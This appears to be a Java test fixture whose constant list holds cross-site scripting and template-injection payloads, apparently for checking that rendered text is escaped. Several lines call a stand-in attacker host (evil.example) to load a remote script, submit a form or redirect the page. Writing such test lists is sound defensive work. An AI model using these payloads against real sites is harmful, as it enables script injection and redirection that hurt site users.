package org.tongzhou.testing;

import java.util.List;

/** What somebody writes who wants a script to run in the reader's browser. */
public final class HostileTexts {

  private HostileTexts() {}

  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "\"><script>alert(1)</script>",
          "' onmouseover='alert(1)' x='",
          "\" autofocus onfocus=alert(1) x=\"",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</mark><script>alert(1)</script>",
          "<a href=\"javascript:alert(1)\">点我</a>",
          "javascript:alert(1)",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<form action=//evil.example><button>发送</button></form>",
          "<style>*{background:url(//evil.example)}</style>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "${7*7} #{7*7} {{7*7}} @raw <%= 7*7 %>",
          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "\u0000<script\u0000>alert(1)</script>",
          "＜script＞alert(1)＜/script＞");
}
